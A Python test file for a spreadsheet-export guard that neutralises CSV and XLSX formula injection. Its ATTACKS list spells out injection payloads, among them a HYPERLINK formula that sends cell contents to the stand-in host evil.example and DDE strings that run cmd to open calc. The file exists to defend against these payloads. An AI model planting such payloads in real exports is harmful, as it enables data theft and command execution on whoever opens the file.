"""The formula guard of every CSV and XLSX Kwint writes (issue 17: `+` and `-` passed)."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from kwint.lib.spreadsheet import csv_text, is_dangerous, safe_text, xlsx_bytes

ATTACKS = [
    '-1+HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "=1+1",
    "=",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+31 6 1234 5678",  # not plainly a number: neutralised, safe first
    "-12-2026",
]
PLAIN = ["-12", "+31612345678", "-3,5", "+0.25", "12", "Jansen", "'s-Hertogenbosch", "", "a=b", "06-12345678"]


@pytest.mark.parametrize("value", ATTACKS)
def test_it_neutralises_every_formula_start(value):
    assert is_dangerous(value)
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_numbers_and_text_pass_unchanged(value):
    assert not is_dangerous(value)
    assert safe_text(value) == value


def test_csv_neutralises_every_cell_header_included():
    text = csv_text(["=Naam", "Mobiel"], [[attack, "+31612345678"] for attack in ATTACKS])
    assert text.startswith("\ufeff'=Naam;Mobiel\r\n")
    lines = text.split("\r\n")[1:-1]
    assert len(lines) == len(ATTACKS)
    for line in lines:
        assert line.startswith(("'", "\"'")), line  # quoted where the cell holds ; " or a line break
        assert line.endswith(";+31612345678")


def test_csv_writes_typed_values_as_text():
    import datetime as dt

    text = csv_text(["a", "b", "c", "d"], [[-12, dt.date(2026, 7, 1), True, None]], bom=False, delimiter=",")
    assert text == "a,b,c,d\r\n-12,2026-07-01,ja,\r\n"


def test_xlsx_never_holds_a_formula_and_shows_the_text_exactly():
    data = xlsx_bytes(["Naam", "Waarde"], [[attack, -12] for attack in ATTACKS] + [["Jansen", 3.5]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=False))
    for attack, (text, number) in zip(ATTACKS, rows, strict=False):
        # XML reads a carriage return back as a line feed; the cell stays text either way.
        assert text.value == attack.replace("\r", "\n") and text.data_type == "s"
        assert text.quotePrefix  # Excel keeps it text even when the cell is edited
        assert number.value == -12 and number.data_type == "n"
    assert not rows[-1][0].quotePrefix and rows[-1][1].value == 3.5
    assert sheet["A1"].font.bold
